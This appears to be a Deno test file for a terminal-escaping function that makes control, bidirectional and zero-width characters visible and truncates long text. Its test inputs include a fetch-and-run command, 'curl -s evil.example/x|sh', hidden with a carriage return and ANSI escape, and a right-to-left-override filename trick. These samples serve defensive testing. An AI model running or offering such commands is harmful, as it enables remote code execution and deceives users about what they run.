import { assertEquals } from "../remote/_assert.ts";
import {
  escapeForTerminal,
  hasUnsafeTerminalText,
} from "../../src/protocol/escape_for_terminal.ts";

Deno.test("escapeForTerminal() shows every dangerous character visibly", () => {
  const cases: [string, string][] = [
    ["ls -l", "ls -l"],
    ["curl -s evil.example/x|sh\r\x1b[2Kls", "curl -s evil.example/x|sh\\x0d\\x1b[2Kls"],
    ["a\nb\tc\x00d\x7f", "a\\x0ab\\x09c\\x00d\\x7f"],
    ["\x9b31m", "\\u{9b}31m"],
    ["file\u202egnp.exe", "file\\u{202e}gnp.exe"],
    ["\u2066x\u2069\u200ey\u200f", "\\u{2066}x\\u{2069}\\u{200e}y\\u{200f}"],
    [
      "zero\u200bwidth\u200c\u200d\u2060\ufeff",
      "zero\\u{200b}width\\u{200c}\\u{200d}\\u{2060}\\u{feff}",
    ],
    ["line\u2028para\u2029", "line\\u{2028}para\\u{2029}"],
    ["lone \ud800 surrogate", "lone \\u{d800} surrogate"],
    ["Grüße, 日本語 😀 C:\\Users", "Grüße, 日本語 😀 C:\\Users"],
  ];
  for (const [input, expected] of cases) {
    assertEquals(escapeForTerminal(input), expected, JSON.stringify(input));
    assertEquals(hasUnsafeTerminalText(input), input !== expected, JSON.stringify(input));
  }
});

Deno.test("escapeForTerminal() cuts long text with a marker, counting characters", () => {
  assertEquals(escapeForTerminal("abcdef", { maxLength: 4 }), "abcd…[2 more characters]");
  assertEquals(escapeForTerminal("abcd", { maxLength: 4 }), "abcd");
  assertEquals(escapeForTerminal("😀😀😀", { maxLength: 2 }), "😀😀…[1 more character]");
  assertEquals(escapeForTerminal("\x1b\x1b\x1b", { maxLength: 1 }), "\\x1b…[2 more characters]");
});
